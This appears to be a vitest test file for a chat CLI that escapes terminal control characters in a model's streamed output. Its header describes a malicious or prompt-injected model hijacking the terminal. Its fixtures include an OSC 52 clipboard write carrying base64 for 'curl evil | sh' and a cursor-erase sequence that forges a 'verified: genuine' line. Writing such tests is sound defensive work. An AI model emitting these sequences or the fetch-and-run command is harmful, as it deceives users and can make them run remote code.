/**
 * Review (session 3): the chat CLI printed the model's streamed text raw, so a
 * malicious or prompt-injected model could drive the user's terminal (OSC 52
 * clipboard writes, cursor moves that erase or forge the verification lines).
 * Control characters now reach the terminal only as visible \xNN; the answer
 * returned (and --json) keeps the exact text.
 */
import { describe, expect, it } from 'vitest';

import type { AttestedClient } from '../../src/gateway/index.js';
import { streamChat, terminalSafe } from '../../src/gateway/chat-cli.js';

const OSC52 = '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07';
const ERASE = '\x1b[3A\x1b[2K';

/** A stand-in for the attested client whose backend streams the given Ollama NDJSON lines, then Ollama's last line (`done: true`). */
function backend(lines: string[]): AttestedClient {
  return {
    fetch: async () => new Response([...lines, '{"done":true}'].map((l) => `${l}\n`).join(''), { status: 200 }),
  } as unknown as AttestedClient;
}

describe('chat output to a terminal', () => {
  it('escape sequences in the model\'s text are written as visible \\xNN, never raw; the returned answer is exact', async () => {
    const pieces = [`hello ${OSC52}`, `${ERASE}verified: genuine\r`, ' bye\tok\n'];
    let written = '';
    const answer = await streamChat(backend(pieces.map((p) => JSON.stringify({ message: { content: p } }))), { api: 'ollama', model: 'm', prompt: 'x', write: (t) => (written += t) });
    expect(answer).toBe(pieces.join(''));
    expect(written).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    expect(written).toContain('\\x1b]52;c;');
    expect(written).toContain('\\x07');
    expect(written).toContain('\\x1b[3A');
    expect(written).toContain('\\x0d');
    expect(written).toContain(' bye\tok\n');
  });

  it('terminalSafe keeps text, newlines and tabs, and escapes C0, DEL and C1 controls', () => {
    expect(terminalSafe('a\nb\tc é ✓')).toBe('a\nb\tc é ✓');
    expect(terminalSafe('\x00\x1b\x7f\x9b')).toBe('\\x00\\x1b\\x7f\\x9b');
  });
});
